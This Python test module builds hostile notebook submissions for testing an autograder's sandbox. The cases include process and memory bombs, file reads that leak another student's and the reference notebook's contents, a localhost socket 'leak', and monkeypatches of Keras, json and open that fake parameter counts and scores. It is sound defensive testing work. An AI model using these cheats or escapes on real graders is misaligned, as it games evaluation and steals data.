"""The hostile corpus of issue 4: submissions of the "mini" assignment that hang, crash,
flood, cheat or try to escape, plus broken files and one correct control.

Every hostile notebook keeps the rest of the work right (the correct model of Desafio 1
and the answer "São 25.450 parâmetros."), with the hostile code in cells of its own, so a
test can show that one broken cell costs that cell only. The tampering cases build a
WRONG model (Dense(16): 12,730 parameters) first: a tamper that worked would show as a
wrong model passing ``params``.

What each stem should produce is in ``expected.toml`` next to this file.

Nothing here can hurt the machine if the sandbox fails: loops are cut by the cell
timeout, the memory bombs are bounded (the growing list stops at 8 GB), the "many
processes" case starts at most 500 ``sleep 60``, and every process a notebook starts
carries ``CHILD_MARKER`` in its environment so the test can find (and end) it.
"""

from __future__ import annotations

import base64
import json
import random
import struct
import textwrap
import zlib
from pathlib import Path
from typing import Callable

import nbformat
import nbformat.v3 as v3

from tests.mini_assignment import MODEL, mini_notebook

v4 = nbformat.v4

MODEL_OK = MODEL.format(units=32)  # 25,450 parameters, as the reference
MODEL_WRONG = MODEL.format(units=16)  # 12,730 parameters
ANSWER = "São 25.450 parâmetros."
IMPORTS = "import keras\nfrom keras import layers"

# Environment variable set on every process a hostile notebook starts (value: "1").
CHILD_MARKER = "GRADER_HOSTILE_CHILD"
# Written by ``escreve_tmp``; must not exist on the host after the run.
ESCAPE_FILE = Path("/tmp/grader-hostile-escape.txt")
# Written by ``escreve_referencia`` next to ``secret_paths['reference']``.
PWNED_NAME = "pwned.txt"
# Canaries: the one of the other student is in ``controle.ipynb`` (its metadata); the
# test puts CANARY_REFERENCE into the reference notebook. Neither may reach the outputs.
CANARY_OTHER = "CANARY-OTHER-STUDENT-7f3a91"
CANARY_REFERENCE = "CANARY-REFERENCE-2c9e44"
CANARY_PATTERN = r"CANARY-[A-Z]+(?:-[A-Z]+)*-[0-9a-f]+"

# Rewrites a serialized Keras config so that Dense(16) claims 32 units, the next layer's
# recorded input shape included, so that it rebuilds cleanly as the reference model.
FAKE_CONFIG = textwrap.dedent("""\
    def _fake(obj):
        if isinstance(obj, dict):
            out = {}
            for k, v in obj.items():
                if k == 'units' and v == 16:
                    v = 32
                elif k == 'input_shape' and isinstance(v, (list, tuple)) and list(v[-1:]) == [16]:
                    v = list(v[:-1]) + [32]
                else:
                    v = _fake(v)
                out[k] = v
            return out
        if isinstance(obj, (list, tuple)):
            return [_fake(v) for v in obj]
        return obj
    """)
# The same on JSON text.
FAKE_TEXT = textwrap.dedent("""\
    def _fake_text(text):
        return text.replace('"units": 16', '"units": 32').replace('"input_shape": [null, 16]', '"input_shape": [null, 32]')
    """)
# Keras' own weight saving (the module functions Model.save_weights calls) does nothing:
# exported weights of Dense(16) would not fit a faked Dense(32) config and give it away.
NO_WEIGHTS = textwrap.dedent("""\
    import sys as _sys
    for _name in ('keras.src.saving.saving_api', 'keras.src.saving.saving_lib'):
        _module = _sys.modules.get(_name)
        for _attr in ('save_weights', 'save_weights_only'):
            if _module is not None and hasattr(_module, _attr):
                setattr(_module, _attr, lambda *args, **kwargs: None)
    """)


def _code(source: str) -> str:
    return textwrap.dedent(source).strip("\n")


# ---------------------------------------------------------------------- notebooks
def notebook(*desafio_cells: str, answer: str = ANSWER):
    """The mini student notebook with ``desafio_cells`` as the code cells of Desafio 1."""
    nb = mini_notebook(MODEL_OK, answer)
    position = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and c.source == MODEL_OK)
    nb.cells[position:position + 1] = [v4.new_code_cell(_code(c)) for c in desafio_cells]
    return nb


def write(nb, path: Path) -> None:
    nbformat.write(nb, str(path))


def _png(width: int, height: int, seed: int = 0) -> bytes:
    """A valid, incompressible RGB PNG of about width*height*3 bytes."""
    rng = random.Random(seed)
    row = width * 3
    raw = b"".join(b"\x00" + rng.randbytes(row) for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw, 0))
            + chunk(b"IEND", b""))


# ---------------------------------------------------------------------- the cases
Builder = Callable[[Path, dict], None]
CASES: dict[str, Builder] = {}


def case(stem: str):
    def register(builder: Builder) -> Builder:
        CASES[stem] = builder
        return builder
    return register


def _simple(stem: str, *cells: str) -> None:
    """A case that is just a notebook whose Desafio 1 holds ``cells``."""
    CASES[stem] = lambda path, ctx: write(notebook(*cells), path)


# --- control
@case("controle")
def _controle(path: Path, ctx: dict) -> None:
    nb = notebook(MODEL_OK)
    nb.metadata["grader_test_canary"] = CANARY_OTHER  # read by le_outro_aluno: must not leak
    write(nb, path)


# --- hangs and crashes
_simple("loop_infinito", "while True:\n    pass", MODEL_OK)
_simple("loop_ignora_sigint", """
    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
    """, MODEL_OK)
_simple("os_exit", "import os\nos._exit(1)", MODEL_OK)
_simple("sys_exit", "import sys\nsys.exit(3)", MODEL_OK)
_simple("segfault", "import ctypes\nctypes.string_at(0)", MODEL_OK)

# --- resources
_simple("memoria_bytearray", "x = bytearray(30 * 2**30)", MODEL_OK)
_simple("memoria_lista", """
    # a growing list of touched memory; bounded at 8 GB so that it cannot take the host
    # down if the limits fail (the per-kernel limit is lower). 1 GiB blocks reach the
    # limit in a few allocations (about a second): the outcome must not depend on whether
    # the memory error or the 5 s cell timeout comes first on a slow machine
    blocos = []
    for _ in range(8):
        blocos.append(b'x' * 2**30)
    """, MODEL_OK)
_simple("muitos_processos", f"""
    # bounded: 500 short-lived children at most, each marked so the test can find it
    import os, subprocess
    env = dict(os.environ, {CHILD_MARKER}='1')
    filhos = [subprocess.Popen(['sleep', '60'], env=env, stdin=subprocess.DEVNULL,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
              for _ in range(500)]
    print(len(filhos), 'processos')
    """, MODEL_OK)
_simple("filho_desacoplado", f"""
    import os, subprocess
    p = subprocess.Popen(['sleep', '600'], start_new_session=True, env=dict(os.environ, {CHILD_MARKER}='1'),
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    with open('filho.pid', 'w') as f:
        f.write(str(p.pid))
    """, MODEL_OK)
_simple("daemon_duplo_fork", f"""
    import os
    pid = os.fork()
    if pid == 0:  # child: new session, fork again, the grandchild becomes 'sleep 600'
        try:
            os.setsid()
            if os.fork() == 0:
                fd = os.open('daemon.pid', os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
                os.write(fd, str(os.getpid()).encode())
                os.close(fd)
                os.execvpe('sleep', ['sleep', '600'], dict(os.environ, {CHILD_MARKER}='1'))
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    """, MODEL_OK)
_simple("saida_200mb", "for _ in range(200):\n    print('x' * 10**6)", MODEL_OK)
_simple("imagem_gigante", """
    # a 40 MB PNG (random pixels, stored uncompressed) shown as an output
    import base64, struct, zlib
    import numpy as np
    from IPython.display import display
    w, h = 4096, 3400
    linhas = np.random.default_rng(0).integers(0, 256, size=(h, w * 3 + 1), dtype=np.uint8)
    linhas[:, 0] = 0
    def chunk(kind, data):
        return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data) & 0xffffffff)
    png = (b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0))
           + chunk(b'IDAT', zlib.compress(linhas.tobytes(), 0)) + chunk(b'IEND', b''))
    display({'image/png': base64.b64encode(png).decode()}, raw=True)
    """, MODEL_OK)


# --- file system and network
def _leak(path: Path) -> list[str]:
    read = f"""
        vazou = open({str(path)!r}, encoding='utf-8', errors='replace').read()
        print(vazou)
        """
    # a second cell tries to carry the secret out through the error message (the report)
    exfiltrate = rf"""
        import re
        raise RuntimeError(' '.join(re.findall({CANARY_PATTERN!r}, vazou)) + ' ' + vazou[:1500])
        """
    return [read, exfiltrate]


@case("le_referencia")
def _le_referencia(path: Path, ctx: dict) -> None:
    write(notebook(*_leak(ctx["secret_paths"]["reference"]), MODEL_OK), path)


@case("le_outro_aluno")
def _le_outro_aluno(path: Path, ctx: dict) -> None:
    write(notebook(*_leak(ctx["secret_paths"]["other_student"]), MODEL_OK), path)


_simple("escreve_tmp", f"""
    with open({str(ESCAPE_FILE)!r}, 'w') as f:
        f.write('escaped')
    """, MODEL_OK)


@case("escreve_referencia")
def _escreve_referencia(path: Path, ctx: dict) -> None:
    target = Path(ctx["secret_paths"]["reference"]).parent / PWNED_NAME
    write(notebook(f"""
        with open({str(target)!r}, 'w') as f:
            f.write('pwned')
        """, MODEL_OK), path)


@case("rede")
def _rede(path: Path, ctx: dict) -> None:
    write(notebook(f"""
        import socket
        s = socket.create_connection(('127.0.0.1', {int(ctx['port'])}), timeout=5)
        s.sendall(b'leak')
        s.close()
        """, MODEL_OK), path)


# --- tampering with what the grader might use (all on a WRONG model)
_simple("patch_count_params", MODEL_WRONG, """
    keras.Model.count_params = lambda self: 25450
    print(m.count_params())
    """)
_simple("patch_summary", MODEL_WRONG, """
    def _summary(self, *args, **kwargs):
        print('Total params: 25,450 (99.41 KB)')
        print('Trainable params: 25,450 (99.41 KB)')
    keras.Model.summary = _summary
    m.summary()
    """)
_simple("patch_evaluate", MODEL_WRONG, """
    keras.Model.evaluate = lambda self, *args, **kwargs: [0.01, 0.99]
    print(m.evaluate())
    """)
_simple("patch_save", MODEL_WRONG, """
    # saving does nothing, so a grader relying on the student's save gets no (or old) files
    keras.Model.save = lambda self, *args, **kwargs: None
    keras.Model.save_weights = lambda self, *args, **kwargs: None
    """)
_simple("patch_serialize", MODEL_WRONG, FAKE_CONFIG + NO_WEIGHTS + """
_serialize = keras.saving.serialize_keras_object
keras.saving.serialize_keras_object = lambda obj, *a, **k: _fake(_serialize(obj, *a, **k))
for _name, _module in list(_sys.modules.items()):
    if _name.startswith('keras') and getattr(_module, 'serialize_keras_object', None) is _serialize:
        _module.serialize_keras_object = keras.saving.serialize_keras_object
""")
_simple("patch_json_dumps", MODEL_WRONG, FAKE_TEXT + NO_WEIGHTS + """
import json
_dumps = json.dumps
def _fake_dumps(obj, *args, **kwargs):
    return _fake_text(_dumps(obj, *args, **kwargs))
def _fake_dump(obj, fp, *args, **kwargs):
    fp.write(_fake_dumps(obj, *args, **kwargs))
json.dumps = _fake_dumps
json.dump = _fake_dump
""")
_simple("patch_json_encoder", MODEL_WRONG, FAKE_CONFIG + NO_WEIGHTS + """
# the class, not the module function: a json.dump captured earlier still goes through it
import json
_iterencode = json.JSONEncoder.iterencode
json.JSONEncoder.iterencode = lambda self, o, *a, **k: _iterencode(self, _fake(o), *a, **k)
_encode = json.JSONEncoder.encode
json.JSONEncoder.encode = lambda self, o: _encode(self, _fake(o))
""")
_simple("patch_builtins_open", MODEL_WRONG, FAKE_TEXT + NO_WEIGHTS + """
import builtins, io
_open = builtins.open
class _Liar(io.StringIO):
    def __init__(self, real):
        super().__init__()
        self.real = real
    def close(self):
        if not self.closed:
            self.real.write(_fake_text(self.getvalue()))
            self.real.close()
        super().close()
    def __exit__(self, *exc):
        self.close()
def _fake_open(file, mode='r', *args, **kwargs):
    handle = _open(file, mode, *args, **kwargs)
    if str(file).endswith('model.json') and 'w' in mode and 'b' not in mode:
        return _Liar(handle)
    return handle
builtins.open = _fake_open
""")
_simple("patch_get_config", MODEL_WRONG, NO_WEIGHTS + """
# Dense(16) says it has 32 units (and the next layer that its input has 32 features)
_get_config = layers.Dense.get_config
def _fake_get_config(self):
    config = _get_config(self)
    if config.get('units') == 16:
        config['units'] = 32
    return config
layers.Dense.get_config = _fake_get_config
_get_build_config = layers.Dense.get_build_config
def _fake_get_build_config(self):
    config = _get_build_config(self)
    shape = (config or {}).get('input_shape')
    if shape is not None and list(shape[-1:]) == [16]:
        config['input_shape'] = list(shape[:-1]) + [32]
    return config
layers.Dense.get_build_config = _fake_get_build_config
""")
_simple("patch_harness", MODEL_WRONG, FAKE_CONFIG + """
# whatever object the grader left in the kernel to export models: make it lie
import gc, sys
_found = [sys.modules.get('_grader_harness')]
for _obj in gc.get_objects():
    try:
        if type(_obj).__name__ == 'Harness' or hasattr(type(_obj), 'harvest'):
            _found.append(_obj)
    except Exception:
        pass
_patched = 0
for _h in _found:
    try:
        if hasattr(_h, '_serialize'):
            _h._serialize = (lambda orig: lambda obj, *a, **k: _fake(orig(obj, *a, **k)))(_h._serialize)
            _patched += 1
        if hasattr(_h, '_save_weights'):
            _h._save_weights = lambda *args, **kwargs: None
        if hasattr(_h, '_param_count'):
            _h._param_count = lambda model: 25450
    except Exception:
        pass
print(_patched, 'harness object(s) patched')
""")
_simple("patch_artefatos", MODEL_WRONG, FAKE_CONFIG + """
# after every execution (the grader's export included) rewrite any exported model config
# found near the working directory, and drop the weights that would give it away
import json, os
_root = os.path.dirname(os.getcwd())
def _rewrite(*args):
    for folder, _dirs, files in os.walk(_root):
        if 'model.json' in files:
            try:
                target = os.path.join(folder, 'model.json')
                with open(target, encoding='utf-8') as f:
                    config = json.load(f)
                with open(target, 'w', encoding='utf-8') as f:
                    json.dump(_fake(config), f)
                if os.path.exists(os.path.join(folder, 'model.weights.h5')):
                    os.remove(os.path.join(folder, 'model.weights.h5'))
            except Exception:
                pass
get_ipython().events.register('post_execute', _rewrite)
""")
_simple("patch_showtraceback", MODEL_OK, """
    from IPython.core.interactiveshell import InteractiveShell
    InteractiveShell.showtraceback = lambda self, *args, **kwargs: None
    get_ipython().showtraceback = lambda *args, **kwargs: None
    """, "1 / 0")
_simple("json_falso", MODEL_WRONG, """
    import json, os
    print('{"score": 100, "status": "passed"}')
    print(json.dumps({"id": "json_falso", "status": "graded", "score": 3, "max_score": 3,
                      "checks": [{"id": c, "status": "passed", "score": 1} for c in ("executa", "params", "resposta")]}))
    fake = {"segment": "desafio-1", "models": [{"names": ["m"], "api": "sequential", "class": "Sequential",
            "total_params": 25450, "order": 1, "dir": "model1", "error": None}], "values": {}, "value_errors": {}}
    for folder in (os.getcwd(), os.environ.get('TMPDIR', '/tmp')):
        with open(os.path.join(folder, 'manifest.json'), 'w') as f:
            json.dump(fake, f)
    """)
_simple("sombreia_nomes", MODEL_OK, """
    # names a grader's injected code might use, shadowed in the student's globals
    sys = None
    __import__ = None
    globals = None
    get_ipython = None
    json = None
    os = None
    isinstance = None
    open = None
    """)
_simple("apaga_saidas", """
    print('Traceback (most recent call last): nada aqui')
    raise ValueError('um erro que a próxima célula tenta esconder')
    """, """
    from IPython.display import clear_output
    clear_output()
    get_ipython().history_manager.reset()
    """, MODEL_OK)


# --- models judged with the notebook's own class (a call() of its own): the class behaves in
# the student's kernel and turns hostile only in the judge process, where it is rebuilt.
# Its model is WRONG (Dense(16)), so a tamper that worked would show as ``params`` passing.
JUDGED_NET = """
    import numpy as np

    class Net(keras.Model):
        def __init__(self, **kwargs):
            super().__init__(**kwargs)
            import sys
            if "ipykernel" not in sys.modules:  # the judge process
    {init}
            self.flat = layers.Flatten()
            self.d1 = layers.Dense(16)
            self.out = layers.Dense(10, activation="softmax")

        def call(self, x):
            import sys
            if "ipykernel" not in sys.modules:
    {call}
            return self.out(keras.ops.relu(self.d1(self.flat(x))))

    m = Net()
    m(np.zeros((1, 28, 28), "float32"))
    """


def _judged(stem: str, init: str = "pass", call: str = "pass") -> None:
    indent = " " * 16
    _simple(stem, JUDGED_NET.replace("{init}", textwrap.indent(textwrap.dedent(init), indent).rstrip())
            .replace("{call}", textwrap.indent(textwrap.dedent(call), indent).rstrip()))


_judged("juiz_honesto")
_judged("juiz_init_falsifica", init="""
    import numpy
    numpy.prod = lambda shape, *a, **k: 25450 if len(tuple(shape)) == 2 else 0
    """)
_judged("juiz_call_em_loop", call="""
    while True:
        pass
    """)
_judged("juiz_sai", init="""
    import os
    os._exit(0)
    """)
_judged("juiz_escreve_protocolo", init="""
    import json, os, struct
    fake = json.dumps({"ok": True, "class": "Net", "weights": [25450], "trainable": [25450], "layers": [],
                       "input_shape": [None, 28, 28], "output_shape": [None, 10]}).encode()
    for fd in range(3, 12):
        try:
            os.write(fd, struct.pack(">Q", len(fake)) + fake)
        except OSError:
            pass
    """)

# --- the harvest itself (issue 18): a hook registered after the grader's rewrites what the
# grader's export just wrote, before the grader takes it. Each builds a WRONG model or
# brings a secret: what the hook does must earn nothing and carry nothing out.
HARVEST_HOOK = """
    import glob, json, os
    def _forja(result):
        raw = getattr(getattr(result, 'info', None), 'raw_cell', '') or ''
        if not raw.startswith('#grader-command'):
            return
        for manifest in glob.glob(os.path.join(os.path.dirname(os.getcwd()), 'exports', '*', 'manifest.json')):
            pasta = os.path.dirname(manifest)
            with open(manifest, encoding='utf-8') as f:
                dados = json.load(f)
            if not dados.get('models'):
                continue
    {action}
    get_ipython().events.register('post_run_cell', _forja)
    """
# Dataset files the judge process must not see (bubblewrap hides them); this marker in an
# output means it saw one (the notebook writes it in two pieces: its source is in outputs too)
DATASET_SEEN = "DATASET-VISIVEL-NO-JUIZ"


def _harvest_case(stem: str, action: str, *cells: str) -> None:
    hook = HARVEST_HOOK.replace("{action}", textwrap.indent(textwrap.dedent(action), " " * 12).rstrip())
    _simple(stem, hook, *cells)


@case("colheita_caminho_externo")
def _colheita_caminho_externo(path: Path, ctx: dict) -> None:
    # the manifest sends the grader to a correct model's export on the host (a classmate's
    # or the reference's, reached through /proc/<pid>/cwd in the first report)
    planted = str(ctx["planted_model"])
    hook = HARVEST_HOOK.replace("{action}", textwrap.indent(textwrap.dedent(f"""
        for entrada in dados['models']:
            entrada['dir'] = {planted!r}
        with open(manifest, 'w', encoding='utf-8') as f:
            json.dump(dados, f)
        """), " " * 12).rstrip())
    write(notebook(hook, MODEL_WRONG), path)


_harvest_case("colheita_repetida", """
    dados['models'] = dados['models'] * 3
    with open(manifest, 'w', encoding='utf-8') as f:
        json.dump(dados, f)
    """, MODEL_OK)
_harvest_case("colheita_profunda", """
    texto = json.dumps(dados).replace('"values": {}', '"values": {"x": ' + '[' * 100000 + ']' * 100000 + '}', 1)
    with open(manifest, 'w', encoding='utf-8') as f:
        f.write(texto)
    """, MODEL_OK)


@case("colheita_link_referencia")
def _colheita_link_referencia(path: Path, ctx: dict) -> None:
    # the weights become a link to the reference notebook; the class, rebuilt in the judge,
    # raises what its copy holds, to reach the report as the "load error"
    reference = str(ctx["secret_paths"]["reference"])
    hook = HARVEST_HOOK.replace("{action}", textwrap.indent(textwrap.dedent(f"""
        for pesos in glob.glob(os.path.join(pasta, 'model*', 'model.weights.h5')):
            os.remove(pesos)
            os.symlink({reference!r}, pesos)
        """), " " * 12).rstrip())
    net = JUDGED_NET.replace("{init}", textwrap.indent(textwrap.dedent(rf"""
        import glob, re
        for copia in glob.glob('models/*/model.weights.h5'):
            texto = open(copia, encoding='utf-8', errors='replace').read()
            raise RuntimeError(' '.join(re.findall({CANARY_PATTERN!r}, texto)) + ' ' + texto[:1500])
        """), " " * 16).rstrip()).replace("{call}", " " * 16 + "pass")
    write(notebook(hook, net), path)


@case("juiz_le_dataset")
def _juiz_le_dataset(path: Path, ctx: dict) -> None:
    # rebuilt in the judge, the class looks for the test labels (a lookup table would answer
    # every test image); it says so if it finds them
    folders = [str(ctx["dataset_dir"]), "/usr/share/datasets/fashion-mnist"]
    net = JUDGED_NET.replace("{init}", textwrap.indent(textwrap.dedent(f"""
        import os
        for pasta in {folders!r} + [os.path.expanduser('~/.keras/datasets/fashion-mnist')]:
            alvo = os.path.join(pasta, 't10k-labels-idx1-ubyte.gz')
            if os.path.exists(alvo):
                raise RuntimeError({DATASET_SEEN[:8]!r} + {DATASET_SEEN[8:]!r} + ' ' + alvo)
        """), " " * 16).rstrip()).replace("{call}", " " * 16 + "pass")
    write(notebook(net), path)


_simple("disco_cheio", """
    # 512 MB into the working folder, in 32 MB pieces: over the quota the test sets (256 MB)
    bloco = b'x' * (32 * 2**20)
    with open('checkpoint.bin', 'wb') as f:
        for _ in range(16):
            f.write(bloco)
            f.flush()
    """, MODEL_OK)


# --- broken or unusual files
@case("json_malformado")
def _json_malformado(path: Path, ctx: dict) -> None:
    text = nbformat.writes(notebook(MODEL_OK))
    path.write_text(text[: len(text) // 2], encoding="utf-8")


@case("nbformat3")
def _nbformat3(path: Path, ctx: dict) -> None:
    answer = v3.new_text_cell("markdown", source=ANSWER)
    answer.metadata = {"tags": ["resposta:d1"]}
    nb = v3.new_notebook(worksheets=[v3.new_worksheet(cells=[
        v3.new_heading_cell("Mini", level=1),
        v3.new_code_cell(input=IMPORTS),
        v3.new_heading_cell("Desafio 1", level=2),
        v3.new_code_cell(input=MODEL_OK),
        answer,
    ])], metadata={"name": "nbformat3", "kernelspec": {"name": "python3", "language": "python",
                                                     "display_name": "Python 3"}})
    path.write_text(nbformat.writes(nb, version=3), encoding="utf-8")


@case("sem_celulas_codigo")
def _sem_celulas_codigo(path: Path, ctx: dict) -> None:
    nb = notebook(MODEL_OK)
    nb.cells = [c for c in nb.cells if c.cell_type != "code"]
    write(nb, path)


@case("sem_kernelspec")
def _sem_kernelspec(path: Path, ctx: dict) -> None:
    nb = notebook(MODEL_OK)
    nb.metadata = {}
    write(nb, path)


@case("kernel_r")
def _kernel_r(path: Path, ctx: dict) -> None:
    nb = notebook(MODEL_OK)
    nb.metadata["kernelspec"] = {"name": "ir", "language": "R", "display_name": "R"}
    nb.metadata["language_info"] = {"name": "R"}
    write(nb, path)


@case("nao_utf8")
def _nao_utf8(path: Path, ctx: dict) -> None:
    data = json.dumps(notebook(MODEL_OK), ensure_ascii=False, indent=1).encode("utf-8")
    assert b"# Mini" in data
    path.write_bytes(data.replace(b"# Mini", b"# Mini \xff\xfe", 1))


@case("imagem_embutida_50mb")
def _imagem_embutida(path: Path, ctx: dict) -> None:
    # 50 MB of base64 in a saved output (about 37.5 MB of PNG): under the 64 MiB limit
    # on notebook files, so the notebook should be graded normally
    nb = notebook(MODEL_OK)
    cell = next(c for c in nb.cells if c.cell_type == "code" and c.source == MODEL_OK)
    png = _png(4096, 3050)
    cell.outputs = [v4.new_output("display_data", data={"image/png": base64.b64encode(png).decode()})]
    cell.execution_count = 2
    write(nb, path)


@case("nao_notebook")
def _nao_notebook(path: Path, ctx: dict) -> None:
    path.write_bytes(_png(8, 8))


@case("vazio")
def _vazio(path: Path, ctx: dict) -> None:
    path.write_bytes(b"")


@case("json_nao_notebook")
def _json_nao_notebook(path: Path, ctx: dict) -> None:
    path.write_text(json.dumps({"score": 100, "status": "passed"}), encoding="utf-8")


# ---------------------------------------------------------------------- entry point
def build_corpus(folder: Path, *, port: int, secret_paths: dict[str, Path],
                 only: list[str] | None = None, planted_model: Path | None = None,
                 dataset_dir: Path | None = None) -> None:
    """Write every case (or those in ``only``) as ``folder/<stem>.ipynb``.

    ``port``: a TCP port on 127.0.0.1 the test listens on (``rede`` tries to reach it).
    ``secret_paths``: ``reference`` (the reference notebook) and ``other_student`` (a
    submission; normally ``folder/controle.ipynb``, written here) that ``le_*`` try to read.
    ``planted_model``: a correct model's export on the host (``colheita_caminho_externo``
    points the grader at it); ``dataset_dir``: the data set the judge must not see.
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    ctx = {"port": port, "secret_paths": {k: Path(v) for k, v in secret_paths.items()},
           "planted_model": Path(planted_model or folder / "planted"),
           "dataset_dir": Path(dataset_dir or "/usr/share/datasets/fashion-mnist")}
    for stem, builder in CASES.items():
        if only is None or stem in only:
            builder(folder / f"{stem}.ipynb", ctx)
